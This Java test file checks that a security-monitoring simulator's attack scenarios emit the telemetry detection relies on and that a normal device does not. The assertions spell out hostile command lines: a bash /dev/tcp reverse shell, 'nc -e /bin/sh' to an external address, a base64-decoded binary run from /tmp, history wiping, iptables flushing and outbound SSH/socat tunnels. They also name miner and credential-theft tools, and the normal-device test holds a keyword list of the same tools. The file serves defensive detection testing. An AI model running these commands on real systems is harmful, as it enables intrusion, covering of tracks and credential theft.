package io.vigil.simulator.scenario;

import com.fasterxml.jackson.databind.JsonNode;
import org.junit.jupiter.api.Test;

import java.time.Duration;
import java.time.Instant;
import java.util.List;

import static org.assertj.core.api.Assertions.assertThat;

/** Each scenario contains, plainly, what its detection keys on; the normal device contains none of it. */
class ScenarioTriggersTest {

    private static DeviceRecording record(String scenario) {
        return DeviceRecording.of(Scenarios.named(scenario).orElseThrow(), 10, 10);
    }

    @Test
    void sshBruteforceIsTenFailuresFromOneAddressWithinAMinuteThenASuccessFromIt() {
        List<JsonNode> logins = record("ssh-bruteforce").named("Login");
        List<JsonNode> failures = logins.stream().filter(l -> result(l).equals("Fail")).toList();
        List<JsonNode> successes = logins.stream().filter(l -> result(l).equals("Success")).toList();
        assertThat(failures).hasSize(10);
        assertThat(successes).hasSize(1);
        String attacker = item(failures.get(0)).get("RemoteAddress").asText();
        assertThat(attacker).startsWith("203.0.113.");
        assertThat(failures).allSatisfy(f -> {
            assertThat(item(f).get("RemoteAddress").asText()).isEqualTo(attacker);
            assertThat(item(f).get("LocalPort").asText()).isEqualTo("22");
            assertThat(item(f).get("Executable").asText()).isEqualTo("/usr/sbin/sshd");
        });
        Instant firstFailure = DeviceRecording.utc(failures.get(0));
        Instant lastFailure = DeviceRecording.utc(failures.get(9));
        Instant success = DeviceRecording.utc(successes.get(0));
        assertThat(Duration.between(firstFailure, lastFailure)).isLessThan(Duration.ofSeconds(60));
        assertThat(success).isAfter(lastFailure);
        assertThat(Duration.between(firstFailure, success)).isLessThanOrEqualTo(Duration.ofSeconds(60));
        assertThat(item(successes.get(0)).get("RemoteAddress").asText()).isEqualTo(attacker);
    }

    @Test
    void failedBruteforceHasOnlyFailures() {
        List<JsonNode> logins = record("failed-bruteforce").named("Login");
        assertThat(logins).hasSize(10).allSatisfy(l -> assertThat(result(l)).isEqualTo("Fail"));
    }

    @Test
    void localLoginSucceedsWithoutARemoteAddress() {
        List<JsonNode> logins = record("local-login").items("Login");
        assertThat(logins).anySatisfy(login -> {
            assertThat(login.get("Result").asText()).isEqualTo("Success");
            assertThat(login.get("Executable").asText()).isEqualTo("/bin/login");
            assertThat(login.has("RemoteAddress")).isFalse();
        });
    }

    @Test
    void reverseShellHasBothClassicCommandLinesAndTheCallOut() {
        DeviceRecording recording = record("reverse-shell");
        assertThat(recording.commandLines())
                .anySatisfy(c -> assertThat(c).matches("bash -i >& /dev/tcp/203\\.0\\.113\\.\\d+/4444 0>&1"))
                .anySatisfy(c -> assertThat(c).matches("nc -e /bin/sh 203\\.0\\.113\\.\\d+ 4444"));
        assertThat(recording.anyItem("ConnectionCreate", c -> c.get("RemotePort").asText().equals("4444")
                && c.get("Direction").asText().equals("Out"))).isTrue();
    }

    @Test
    void cryptoMinerRunsXmrigAgainstAStratumPool() {
        assertThat(record("crypto-miner").commandLines())
                .anySatisfy(c -> assertThat(c).contains("xmrig").contains("stratum+tcp://"));
    }

    @Test
    void openPortsListensOnRiskyPortsOnEveryInterface() {
        List<JsonNode> endpoints = record("open-ports").items("ListeningPorts");
        for (String port : List.of("23", "21", "5900")) {
            assertThat(endpoints).anySatisfy(e -> {
                assertThat(e.get("LocalAddress").asText()).isEqualTo("0.0.0.0");
                assertThat(e.get("LocalPort").asText()).isEqualTo(port);
            });
        }
    }

    @Test
    void permissiveFirewallAcceptsByDefaultAndHasAllowAllRules() {
        List<JsonNode> rules = record("permissive-firewall").items("FirewallConfiguration");
        assertThat(lastRuleOf(rules, "INPUT").get("Action").asText()).isEqualTo("Allow");
        assertThat(lastRuleOf(rules, "OUTPUT").get("Action").asText()).isEqualTo("Allow");
        assertThat(rules).anySatisfy(r -> {
            assertThat(r.get("ChainName").asText()).isEqualTo("INPUT");
            assertThat(r.get("SourceAddress").asText()).isEqualTo("0.0.0.0/0");
            assertThat(r.get("Action").asText()).isEqualTo("Allow");
        });
        assertThat(rules).anySatisfy(r -> {
            assertThat(r.get("DestinationPort").asText()).isEqualTo("1337");
            assertThat(r.get("SourceAddress").asText()).isEmpty();
        });
    }

    @Test
    void binaryCommandLineDecodesAnElfAndRunsIt() {
        assertThat(record("binary-command-line").commandLines()).anySatisfy(c -> assertThat(c)
                .contains("echo f0VMR").contains("| base64 -d > /tmp/.x").contains("chmod +x /tmp/.x"));
    }

    @Test
    void clearHistoryWipesBashHistory() {
        assertThat(record("clear-history").commandLines())
                .anySatisfy(c -> assertThat(c).startsWith("rm -f ").endsWith("/.bash_history"))
                .anySatisfy(c -> assertThat(c).contains("history -c"))
                .anySatisfy(c -> assertThat(c).isEqualTo("ln -sf /dev/null /root/.bash_history"));
    }

    @Test
    void disableFirewallOpensThePoliciesFlushesAndLaterSnapshotsShowIt() {
        DeviceRecording recording = DeviceRecording.of(Scenarios.named("disable-firewall").orElseThrow(), 150, 25);
        assertThat(recording.commandLines())
                .contains("iptables -P INPUT ACCEPT", "iptables -P OUTPUT ACCEPT", "iptables -F");
        List<JsonNode> snapshots = recording.named("FirewallConfiguration");
        assertThat(snapshots.size()).isGreaterThanOrEqualTo(2);
        List<JsonNode> before = items(snapshots.get(0));
        List<JsonNode> after = items(snapshots.get(1));
        assertThat(lastRuleOf(before, "INPUT").get("Action").asText()).isEqualTo("Deny");
        assertThat(lastRuleOf(after, "INPUT").get("Action").asText()).isEqualTo("Allow");
    }

    @Test
    void webShellRunsCommandsAsWwwDataUnderAPhpFpmWorker() {
        List<JsonNode> processes = record("web-shell").items("ProcessCreate");
        JsonNode worker = processes.stream()
                .filter(p -> p.get("Executable").asText().startsWith("/usr/sbin/php-fpm")).findFirst().orElseThrow();
        int workerPid = worker.get("ProcessId").asInt();
        assertThat(processes).anySatisfy(p -> {
            assertThat(p.get("ParentProcessId").asInt()).isEqualTo(workerPid);
            assertThat(p.get("CommandLine").asText()).isEqualTo("sh -c id");
            assertThat(p.get("UserName").asText()).isEqualTo("www-data");
        });
    }

    @Test
    void portForwardingTunnelsToAnExternalAddress() {
        assertThat(record("port-forwarding").commandLines())
                .anySatisfy(c -> assertThat(c).startsWith("ssh ").contains("-R 8080:localhost:22 tunnel@203.0.113."))
                .anySatisfy(c -> assertThat(c).startsWith("socat TCP-LISTEN:2222").contains("TCP:203.0.113."));
    }

    @Test
    void knownAttackToolsRunsNmapAndHydra() {
        assertThat(record("known-attack-tools").commandLines())
                .anySatisfy(c -> assertThat(c).startsWith("nmap -sS"))
                .anySatisfy(c -> assertThat(c).startsWith("hydra -l root"));
    }

    @Test
    void credentialAccessToolsRunsLaZagneMimipenguinAndUnshadow() {
        assertThat(record("credential-access-tools").commandLines())
                .anySatisfy(c -> assertThat(c).contains("laZagne.py"))
                .anySatisfy(c -> assertThat(c).contains("mimipenguin.sh"))
                .anySatisfy(c -> assertThat(c).startsWith("unshadow "));
    }

    @Test
    void aNormalDeviceShowsNoneOfIt() {
        DeviceRecording recording = DeviceRecording.of(Scenarios.normal(), 300, 10);
        assertThat(recording.items("Login")).allSatisfy(l -> {
            assertThat(l.get("Result").asText()).isEqualTo("Success");
            assertThat(l.get("RemoteAddress").asText()).startsWith("10.20.");
        });
        assertThat(String.join("\n", recording.commandLines()))
                .doesNotContain("/dev/tcp", "nc -e", "xmrig", "stratum", "base64", "bash_history", "iptables",
                        "nmap", "hydra", "laZagne", "mimipenguin", "unshadow", "ssh -", "socat");
        assertThat(recording.items("ListeningPorts"))
                .noneSatisfy(e -> assertThat(e.get("LocalAddress").asText()).isIn("0.0.0.0", "::"));
        List<JsonNode> rules = recording.items("FirewallConfiguration");
        assertThat(lastRuleOf(rules, "INPUT").get("Action").asText()).isEqualTo("Deny");
        assertThat(lastRuleOf(rules, "OUTPUT").get("Action").asText()).isEqualTo("Deny");
        assertThat(recording.items("OSBaseline")).allSatisfy(c -> assertThat(c.get("Result").asText()).isEqualTo("Pass"));
        assertThat(recording.items("ConnectionCreate"))
                .allSatisfy(c -> assertThat(c.get("RemoteAddress").asText()).startsWith("10.20."));
    }

    @Test
    void everyDeviceStartsWithItsSnapshot() {
        List<String> first = record("normal").events.subList(0, 7).stream()
                .map(e -> e.get("Name").asText()).toList();
        assertThat(first).containsExactly("SystemInformation", "ListeningPorts", "LocalUsers",
                "FirewallConfiguration", "OSBaseline", "MessageStatistics", "DroppedEventsStatistics");
    }

    private static String result(JsonNode login) {
        return item(login).get("Result").asText();
    }

    private static JsonNode item(JsonNode event) {
        return event.get("Payload").get(0);
    }

    private static List<JsonNode> items(JsonNode event) {
        return java.util.stream.StreamSupport.stream(event.get("Payload").spliterator(), false).toList();
    }

    /** The chain's default policy: its rule with the highest priority, as the agent reports it. */
    private static JsonNode lastRuleOf(List<JsonNode> rules, String chain) {
        return rules.stream()
                .filter(r -> r.get("ChainName").asText().equals(chain))
                .reduce((a, b) -> b.get("Priority").asInt() >= a.get("Priority").asInt() ? b : a)
                .orElseThrow();
    }
}
